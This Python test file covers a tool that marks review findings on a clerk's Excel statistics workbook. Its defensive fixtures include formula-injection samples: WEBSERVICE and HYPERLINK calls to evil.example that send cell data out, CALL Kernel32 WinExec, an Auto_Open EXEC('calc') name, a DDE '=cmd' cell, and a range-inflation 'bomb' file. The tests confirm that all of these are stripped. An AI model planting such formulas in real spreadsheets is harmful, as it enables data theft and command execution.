"""审核反馈: the clerk's own file, marked; what is kept, what is said, what never gets out."""

import io
import re
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from openpyxl import Workbook
from openpyxl.comments import Comment
from openpyxl.formatting.rule import CellIsRule, FormulaRule
from openpyxl.styles import Font, PatternFill
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.worksheet import Worksheet

from tasks.forms.answers import NoCopy
from tasks.forms.identity import Identity, identity_in
from tasks.forms.marks import FORMULA, heading
from tasks.forms.places import LISTED, MARKED, cells_of
from tasks.forms.question_sheet import heads
from tasks.forms.register_list import needs_list, register_list
from tasks.forms.slip import NotCopiedError, slip_alone, slip_on_cells, slip_on_file
from tasks.forms.slip_writer import CannotCopyError, SlipWriter
from tasks.model import Grid, Severity, Verdict
from tasks.settings import Limits
from tests.answers import SENT, WORDS, finding, formulas, opened, parts, saved, slip, with_part


def clerks_book() -> Workbook:
    book = Workbook()
    sheet = book.active
    assert isinstance(sheet, Worksheet)
    sheet.title = "数据"
    sheet.append(["洪梅镇2023年度统计表", None, None])
    sheet.append(["指标名称", "计量单位", "本年数"])
    sheet.append(["办案数", "宗", "见附件"])
    sheet.append(["办结率", "%", 0.955])
    sheet.append(["填报日期", None, date(2024, 1, 9)])
    sheet.merge_cells("A1:C1")
    sheet["C4"].number_format = "0.0%"
    sheet["C3"].font = Font(name="楷体", size=14, bold=True)
    sheet["A2"].fill = PatternFill("solid", start_color="FFCC00", end_color="FFCC00")
    sheet.column_dimensions["A"].width = 33
    sheet.row_dimensions[1].height = 40
    choice = DataValidation(type="list", formula1='"宗,件,%"')
    sheet.add_data_validation(choice)
    choice.add("B3:B4")
    return book


def questions_sheet(data: bytes) -> Worksheet:
    sheet = opened(data).worksheets[0]
    assert sheet.title == "问题清单"
    return sheet


def texts(sheet: Worksheet) -> list[str]:
    return [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value is not None]


def our_marks(data: bytes) -> dict[str, list[str]]:
    """Sheet → coloured ranges and commented cells of ours."""
    found: dict[str, list[str]] = {}
    for sheet in opened(data).worksheets:
        coloured = [
            str(c.sqref) for c in sheet.conditional_formatting for r in c.rules if FORMULA in r.formula
        ]
        said = [
            cell.coordinate
            for row in sheet.iter_rows()
            for cell in row
            if cell.comment is not None and heading(WORDS.author) in cell.comment.text
        ]
        if coloured or said:
            found[sheet.title] = coloured + said
    return found


def test_the_clerks_file_is_kept_and_the_wrong_cell_is_marked() -> None:
    made = slip_on_file(slip(finding("C3")), saved(clerks_book()), WORDS)
    sheet = opened(made)["数据"]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2, max_row=4)] == [
        ["指标名称", "计量单位", "本年数"],
        ["办案数", "宗", "见附件"],
        ["办结率", "%", 0.955],
    ]
    assert sheet["C4"].number_format == "0.0%"
    assert (sheet["C3"].font.name, sheet["C3"].font.b) == ("楷体", True)
    assert sheet["C3"].fill.fill_type is None  # colour is a conditional format, not the clerk's
    assert sheet["A2"].fill.start_color.rgb == "00FFCC00"
    assert sheet.column_dimensions["A"].width == 33
    assert sheet.row_dimensions[1].height == 40
    assert [str(r) for r in sheet.merged_cells.ranges] == ["A1:C1"]
    assert [str(v.sqref) for v in sheet.data_validations.dataValidation] == ["B3:B4"]
    assert our_marks(made) == {"数据": ["C3", "C3"]}
    comment = sheet["C3"].comment
    assert comment is not None
    assert comment.author == "法治年报审核"
    assert all(word in comment.text for word in ("见附件", "请填写数值", "126"))


def test_the_first_sheet_says_result_and_day_in_one_line_and_links_every_finding() -> None:
    found = [finding("C3"), finding("C4", Severity.WARNING), finding("", Severity.INFO, sheet="")]
    sheet = questions_sheet(slip_on_file(slip(*found), saved(clerks_book()), WORDS))
    assert "退回修改" in sheet["A1"].value
    assert "2024年1月15日（星期一）" in sheet["A1"].value
    head = next(r for r in range(1, 12) if sheet.cell(r, 1).value == "序号")
    rows = [[sheet.cell(head + n, c).value for c in range(1, 7)] for n in (1, 2, 3)]
    assert [row[1] for row in rows] == ["严重", "提示", "说明"]
    assert [row[2] for row in rows] == ["数据 C3", "数据 C4", "整份文件"]
    links = [sheet.cell(head + n, 3).hyperlink for n in (1, 2, 3)]
    assert [link.location if link else None for link in links] == ["'数据'!C3", "'数据'!C4", None]
    assert all(link is None or link.target is None for link in links)
    said = "".join(texts(sheet))
    assert all(word in said for word in (SENT.department_name, "2023", SENT.file, "指标数据：退回修改"))
    assert "放进原来的报送文件夹" in said


def test_several_findings_on_one_cell_are_one_comment_and_the_gravest_colour() -> None:
    found = [finding("C3", Severity.WARNING, observed="是约数。"), finding("C3", observed="不能识别。")]
    made = slip_on_file(slip(*found), saved(clerks_book()), WORDS)
    comment = opened(made)["数据"]["C3"].comment
    assert comment is not None
    assert "是约数。" in comment.text
    assert "不能识别。" in comment.text
    rules = [r for c in opened(made)["数据"].conditional_formatting for r in c.rules]
    assert [r.dxf.fill.bgColor.rgb for r in rules] == ["00FFC7CE"]


def test_a_comment_of_the_clerks_stays_and_is_left_alone_when_ours_goes() -> None:
    book = clerks_book()
    book["数据"]["C3"].comment = Comment("等执法分局的数", "小李")
    once = slip_on_file(slip(finding("C3")), saved(book), WORDS)
    comment = opened(once)["数据"]["C3"].comment
    assert comment is not None
    assert comment.text.startswith("等执法分局的数\n")
    again = slip_on_file(slip(finding("C4")), once, WORDS)
    kept = opened(again)["数据"]["C3"].comment
    assert kept is not None
    assert (kept.text, kept.author) == ("等执法分局的数", "小李")


def test_marks_of_an_old_slip_are_taken_off_first() -> None:
    once = slip_on_file(slip(finding("C3"), finding("A3")), saved(clerks_book()), WORDS)
    again = slip_on_file(slip(finding("C4")), once, WORDS)
    assert our_marks(again) == {"数据": ["C4", "C4"]}
    assert opened(again).sheetnames == ["问题清单", "数据"]


def test_a_sheet_of_the_clerks_with_our_name_is_kept() -> None:
    book = clerks_book()
    book.create_sheet("问题清单").append(["序号", "问题", "责任人"])
    made = opened(slip_on_file(slip(finding("C3")), saved(book), WORDS))
    assert made.sheetnames == ["审核问题清单", "数据", "问题清单"]
    assert made["问题清单"]["C1"].value == "责任人"


def test_the_clerks_conditional_formats_stay_below_ours() -> None:
    book = clerks_book()
    book["数据"].conditional_formatting.add("C3:C9", CellIsRule(operator="lessThan", formula=["0"]))
    rules = [
        (r.priority, FORMULA in r.formula)
        for c in opened(slip_on_file(slip(finding("C3")), saved(book), WORDS))["数据"].conditional_formatting
        for r in c.rules
    ]
    assert sorted(rules) == [(1, True), (2, False)]


def hostile_book() -> Workbook:
    book = clerks_book()
    sheet = book["数据"]
    sheet["A7"] = '=HYPERLINK("http://evil.example/","点我")'
    sheet["A8"] = '=WEBSERVICE("http://evil.example/?"&C3)'
    sheet["A9"] = "网址"
    sheet["A9"].hyperlink = "http://evil.example/"
    sheet["A10"] = "里面"
    sheet["A10"].hyperlink = Hyperlink(ref="A10", location="数据!A1")
    sheet["A11"].value = "=1+1"
    sheet["A11"].data_type = "s"
    bad = DataValidation(type="custom", formula1='LEN(WEBSERVICE("http://evil.example"))>0')
    good = DataValidation(type="list", formula1="单位")
    for one in (bad, good):
        sheet.add_data_validation(one)
        one.add("B7")
    sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=['CALL("Kernel32","WinExec")']))
    sheet.conditional_formatting.add("A1:A9", FormulaRule(formula=["MOD(ROW(),2)=0"]))
    book.defined_names["单位"] = DefinedName("单位", attr_text="数据!$B$3:$B$4")
    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text='EXEC("calc")')
    book.defined_names["外部"] = DefinedName("外部", attr_text="[1]Sheet1!$A$1")
    return book


def test_nothing_of_theirs_that_computes_or_reaches_out_is_in_the_slip() -> None:
    made = slip_on_file(slip(finding("C3", observed="=1+1", mend="@SUM(1)")), saved(hostile_book()), WORDS)
    assert set(formulas(made)) <= {
        FORMULA,
        '"宗,件,%"',
        "单位",
        "数据!$B$3:$B$4",
        "MOD(ROW(),2)=0",
        "'问题清单'!$5:$5",
    }
    assert not any(
        b"evil.example" in content or b"externalLink" in content for content in parts(made).values()
    )
    sheet = opened(made)["数据"]
    assert (sheet["A11"].value, sheet["A11"].data_type) == ("=1+1", "s")
    inside = sheet["A10"].hyperlink
    assert inside is not None
    assert inside.location == "数据!A1"


def test_wps_files_with_an_empty_fill_keep_their_formats() -> None:
    styles = parts(saved(clerks_book()))["xl/styles.xml"]
    fill = re.search(rb"<fill>.*?</fill>", styles)
    assert fill is not None
    broken = with_part(saved(clerks_book()), "xl/styles.xml", fill[0], b"<fill/>")
    with pytest.raises(TypeError):
        opened(broken)
    assert our_marks(slip_on_file(slip(finding("C3")), broken, WORDS)) == {"数据": ["C3", "C3"]}


def test_what_openpyxl_cannot_read_is_said_so() -> None:
    broken = with_part(saved(clerks_book()), "xl/styles.xml", b"<cellXfs", b"<noXfs")
    with pytest.raises(NotCopiedError):
        slip_on_file(
            slip(finding("C3")), with_part(broken, "xl/workbook.xml", b"<sheets>", b"<shoots>"), WORDS
        )


def test_a_large_workbook_is_listed_only_and_says_so() -> None:
    made = slip_on_file(slip(finding("C3"), cells_limit=5), saved(clerks_book()), WORDS)
    assert opened(made).sheetnames == ["问题清单"]
    assert "超过 5 个" in "".join(texts(questions_sheet(made)))


def test_an_unreadable_file_is_answered_by_the_list_alone() -> None:
    made = slip_alone(slip(finding("", sheet=""), why_no_copy=NoCopy.UNREADABLE), WORDS)
    said = "".join(texts(questions_sheet(made)))
    assert "没有能够读取的内容" in said
    assert "已标颜色" not in said


GRID = Grid(
    "台账[1]",
    [["=cmd|'/C calc'!A1", "受理日期", "满意率"], ["+86", date(2023, 3, 15), 0.955], ["", "", ""]],
    percent=frozenset({(1, 2)}),
    merged=((2, 0, 2, 1),),
    hidden_columns=frozenset({1}),
)


def test_cells_of_other_formats_come_back_as_a_workbook_without_formulas() -> None:
    made = slip_on_cells(slip(finding("C2", sheet="台账[1]")), [GRID], WORDS)
    sheet = opened(made)["台账_1_"]
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=cmd|'/C calc'!A1", "s")
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("+86", "s")
    assert sheet["B2"].value.date() == date(2023, 3, 15)
    assert sheet["C2"].number_format == "0.00%"
    assert sheet.column_dimensions["B"].hidden
    assert our_marks(made) == {"台账_1_": ["C2", "C2"]}
    assert set(formulas(made)) <= {FORMULA, "'问题清单'!$5:$5"}


def test_the_same_answer_is_the_same_bytes() -> None:
    data = saved(clerks_book())
    assert slip_on_file(slip(finding("C3")), data, WORDS) == slip_on_file(slip(finding("C3")), data, WORDS)
    made = parts(slip_on_file(slip(finding("C3")), data, WORDS))
    assert b"2024-01-10T07:41:00Z" in made["docProps/core.xml"]


def test_the_copy_carries_whose_it_is() -> None:
    made = slip_on_file(slip(finding("C3")), saved(clerks_book()), WORDS)
    mine = Identity("hongmei", 2023, "justice", "ab" * 32)
    assert identity_in(io.BytesIO(made)) == mine
    other = slip(finding("C3"))
    again = slip_on_file(replace(other, sent=replace(SENT, sha256="cd" * 32)), made, WORDS)
    assert identity_in(io.BytesIO(again)) == replace(mine, sha256="cd" * 32)


@pytest.mark.parametrize("data", [b"", b"no zip", saved(Workbook())])
def test_other_files_carry_no_identity(data: bytes) -> None:
    assert identity_in(io.BytesIO(data)) is None


def test_a_register_has_its_first_places_marked_and_all_of_them_listed() -> None:
    one = finding("C3", places="C3:C302 D7", count=301, mend="=改")
    made = slip_on_file(slip(one, register_list="全部.csv"), saved(clerks_book()), WORDS)
    sheet = opened(made)["数据"]
    said = [f"C{row}" for row in range(3, 303) if sheet[f"C{row}"].comment is not None]
    assert said == [f"C{row}" for row in range(3, 3 + MARKED)]
    assert "等 301 处" in "".join(texts(questions_sheet(made)))
    assert "全部.csv" in "".join(texts(questions_sheet(made)))
    questions = slip(one).questions
    listed = register_list(questions, WORDS).decode("utf-8-sig").splitlines()
    assert len(listed) == 302
    assert listed[301].split(",")[3] == "D7"
    assert listed[1].endswith(",'=改")
    assert needs_list(questions, marked=True)
    assert not needs_list(slip(replace(one, places="C3:C202", count=200)).questions, marked=True)


def test_more_findings_than_a_workbook_opens_well_with_are_in_the_list_of_places() -> None:
    questions = slip(finding("", sheet=""), *[finding("A3")] * LISTED).questions
    made = slip_on_file(slip(*[q.finding for q in questions]), saved(clerks_book()), WORDS)
    sheet = questions_sheet(made)
    assert sum(cell.value == "严重" for cell in sheet["B"]) == LISTED
    assert needs_list(questions, marked=True)
    assert len(register_list(questions, WORDS).splitlines()) == LISTED + 2


def test_ranges_are_all_their_cells() -> None:
    assert list(cells_of("B2:C3 Z9 AA1:AB1 nonsense")) == ["B2", "C2", "B3", "C3", "Z9", "AA1", "AB1"]


def test_a_finding_in_a_merged_cell_marks_the_cell_that_is_seen() -> None:
    assert our_marks(slip_on_file(slip(finding("B1")), saved(clerks_book()), WORDS)) == {"数据": ["A1", "A1"]}


def test_headings_of_the_list_are_what_it_is_known_by() -> None:
    sheet = questions_sheet(slip_alone(slip(verdict=Verdict.PASSED_WITH_NOTES), WORDS))
    assert any(tuple(c.value for c in row) == heads(WORDS) for row in sheet.iter_rows(max_row=12))


def test_a_file_that_brings_the_writing_process_down_holds_up_nobody(tmp_path: Path) -> None:
    good = saved(clerks_book())
    bomb = with_part(good, "xl/worksheets/sheet1.xml", b'ref="A1:C1"', b'ref="A1:XFD1048576"')
    (tmp_path / "good").write_bytes(good)
    (tmp_path / "bomb").write_bytes(bomb)
    limits = Limits(read_seconds=30.0, read_memory_bytes=1 << 29)
    with SlipWriter(WORDS, limits) as writer:
        with pytest.raises(CannotCopyError):
            writer.write(slip(finding("C3"), cells_limit=10**15), tmp_path / "bomb")
        bounded = opened(writer.write(slip(finding("C3"), cells_limit=9999), tmp_path / "bomb"))
        assert bounded.sheetnames == ["问题清单"]
        assert our_marks(writer.write(slip(finding("C3")), tmp_path / "good")) == {"数据": ["C3", "C3"]}
        assert opened(writer.write(slip(finding("C3")), None)).sheetnames == ["问题清单"]
        assert writer.write(slip(finding("A1", sheet="表")), [Grid("表", [["a"]])])
        with pytest.raises(FileNotFoundError):
            writer.write(slip(finding("C3")), tmp_path / "gone")
